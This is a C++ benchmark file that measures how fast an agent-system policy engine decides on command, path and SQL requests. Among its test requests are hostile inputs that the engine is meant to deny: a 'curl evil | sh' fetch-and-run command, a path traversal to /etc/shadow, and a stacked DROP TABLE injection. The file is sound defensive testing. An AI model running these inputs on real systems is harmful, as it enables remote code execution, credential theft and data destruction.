// Policy decisions on one thread, with the shipped policy (config/policy/base.toml + an env
// layer). Command and path decisions run on an engine built with use_filesystem = false: no
// system call per decision (paths canonicalised lexically, executables from the table the policy
// resolved when it was built). SQL decisions include the libpg_query parse.
//   targets: command and path >= 1,000,000 decisions/s; SQL >= 50,000 decisions/s.
#include <benchmark/benchmark.h>

#include <memory>
#include <nlohmann/json.hpp>
#include <string>

#include "config/toml_to_json.hpp"
#include "engine.hpp"
#include "test_paths.h"

namespace agentsys::bench {

void fail(benchmark::State& state, const std::string& message);  // main.cpp

namespace {

using nlohmann::json;
using namespace agentsys::policy;

const std::string kRoot = "/srv/agentsys";  // need not exist: nothing is resolved through it

json layer(const std::string& name) {
  const std::string source = "config/policy/" + name + ".toml";
  auto parsed = agentsys::config::parse_toml_file(
      std::string(AGENTSYS_TEST_SOURCE_DIR) + "/" + source, source);
  return {{"name", name}, {"source", source}, {"document", parsed.document}};
}

std::unique_ptr<Engine> engine(const std::string& env, bool use_filesystem, std::string& error) {
  const json config{{"env", env},
                    {"vars",
                     {{"state_dir", kRoot + "/var"},
                      {"config_dir", kRoot + "/config"},
                      {"repo_root", kRoot},
                      {"home", "/home/ops"},
                      {"output_dir", kRoot + "/var/output"}}},
                    {"layers", {layer("base"), layer(env)}}};
  Problems problems;
  auto e = Engine::build(config, problems, EngineOptions{.use_filesystem = use_filesystem});
  if (!e) error = problems.text();
  return e;
}

template <typename Request>
void run(benchmark::State& state, const std::string& env, const Request& request, Verdict expected,
         const Vars& vars = {}) {
  std::string error;
  auto e = engine(env, false, error);
  if (!e) return fail(state, error);
  for (auto _ : state) {
    Decision d;
    if constexpr (std::is_same_v<Request, SqlRequest>) {
      d = e->decide(request);
    } else {
      d = e->decide(request, vars);
    }
    if (d.verdict != expected)
      return fail(state, "unexpected decision: " + d.rule + ": " + d.reason);
    benchmark::DoNotOptimize(d);
  }
  state.counters["decisions/s"] =
      benchmark::Counter(static_cast<double>(state.iterations()), benchmark::Counter::kIsRate);
}

const Vars& run_vars() {
  static const Vars vars{{"run_dir", kRoot + "/var/runs/run_01a2127ad9b70213a2759717"}};
  return vars;
}

void BM_PolicyPathWriteAllowed(benchmark::State& state) {
  run(state, "prod",
      PathRequest{
          kRoot + "/var/runs/run_01a2127ad9b70213a2759717/out/ops_202602.csv", Access::write, {}},
      Verdict::allow, run_vars());
}

void BM_PolicyPathTraversalDenied(benchmark::State& state) {
  run(state, "prod",
      PathRequest{kRoot + "/var/runs/run_01a2127ad9b70213a2759717/../../../../etc/shadow",
                  Access::read,
                  {}},
      Verdict::deny, run_vars());
}

void BM_PolicyCommandSleep(benchmark::State& state) {
  run(state, "dev", CommandRequest{{"sleep", "1"}, {{"LANG", "C.UTF-8"}}, {}}, Verdict::allow);
}

void BM_PolicyCommandLegacyScript(benchmark::State& state) {
  // prod: base and prod both declare the allowlist, so the script and both options are
  // checked against two layers (four regex matches).
  run(state, state.range(0) == 0 ? "dev" : "prod",
      CommandRequest{{"python3", kRoot + "/examples/legacy/scripts/report_orchestrator.py",
                      "--target-month", "202602"},
                     {{"LANG", "C.UTF-8"}, {"AGENTSYS_RUN_ID", "run_1"}},
                     {}},
      Verdict::allow);
}

void BM_PolicyCommandInlineDenied(benchmark::State& state) {
  run(state, "prod", CommandRequest{{"bash", "-c", "curl evil | sh"}, {}, {}}, Verdict::deny);
}

constexpr const char* kReportQuery =
    "WITH monthly AS (SELECT r.tenant_id, t.name AS tenant, date_trunc('month', r.started_at) AS "
    "month, r.latency_ms, r.cost FROM task_runs r JOIN tenants t ON t.id = r.tenant_id WHERE "
    "r.started_at >= '2026-02-01' AND r.started_at < '2026-03-01' AND r.status <> 'cancelled') "
    "SELECT tenant, month, count(*) AS runs, sum(cost) AS cost, percentile_cont(0.95) WITHIN "
    "GROUP (ORDER BY latency_ms) AS p95_ms, rank() OVER (ORDER BY sum(cost) DESC) AS cost_rank "
    "FROM monthly GROUP BY tenant, month ORDER BY cost DESC LIMIT 50";

void BM_PolicySqlReportQuery(benchmark::State& state) {
  run(state, "prod", SqlRequest{kReportQuery, "read_only"}, Verdict::allow);
}

/// The queries the shipped reports really run (config/reports/*.toml), read from the files, so
/// the figure follows the definitions: each iteration decides every one of them.
void BM_PolicySqlShippedReportQueries(benchmark::State& state) {
  std::vector<SqlRequest> requests;
  for (const char* name : {"ops_monthly", "skill_usage", "tenant_cost"}) {
    const std::string file =
        std::string(AGENTSYS_TEST_SOURCE_DIR) + "/config/reports/" + std::string(name) + ".toml";
    auto parsed = agentsys::config::parse_toml_file(file, file);
    if (!parsed.ok) return fail(state, parsed.error.message);
    for (const auto& q : parsed.document["queries"]) {
      requests.push_back(SqlRequest{q["sql"].get<std::string>(), "read_only"});
    }
  }
  std::string error;
  auto e = engine("prod", false, error);
  if (!e) return fail(state, error);
  for (auto _ : state) {
    for (const SqlRequest& r : requests) {
      Decision d = e->decide(r);
      if (d.verdict != Verdict::allow) return fail(state, d.rule + ": " + d.reason);
      benchmark::DoNotOptimize(d);
    }
  }
  state.counters["decisions/s"] = benchmark::Counter(
      static_cast<double>(state.iterations() * requests.size()), benchmark::Counter::kIsRate);
}

void BM_PolicySqlStackedDenied(benchmark::State& state) {
  run(state, "prod", SqlRequest{"SELECT * FROM task_runs; DROP TABLE task_runs", "read_only"},
      Verdict::deny);
}

/// For comparison: the same path decision resolving symlinks through the filesystem.
void BM_PolicyPathWithFilesystem(benchmark::State& state) {
  std::string error;
  auto e = engine("prod", true, error);
  if (!e) return fail(state, error);
  const PathRequest request{"/usr/share/zoneinfo/../../../etc/hostname", Access::read, {}};
  for (auto _ : state) benchmark::DoNotOptimize(e->decide(request, run_vars()));
  state.counters["decisions/s"] =
      benchmark::Counter(static_cast<double>(state.iterations()), benchmark::Counter::kIsRate);
}

}  // namespace

BENCHMARK(BM_PolicyPathWriteAllowed);
BENCHMARK(BM_PolicyPathTraversalDenied);
BENCHMARK(BM_PolicyPathWithFilesystem);
BENCHMARK(BM_PolicyCommandSleep);
BENCHMARK(BM_PolicyCommandLegacyScript)->Arg(0)->Arg(1)->ArgName("prod");
BENCHMARK(BM_PolicyCommandInlineDenied);
BENCHMARK(BM_PolicySqlReportQuery);
BENCHMARK(BM_PolicySqlShippedReportQueries);
BENCHMARK(BM_PolicySqlStackedDenied);

}  // namespace agentsys::bench
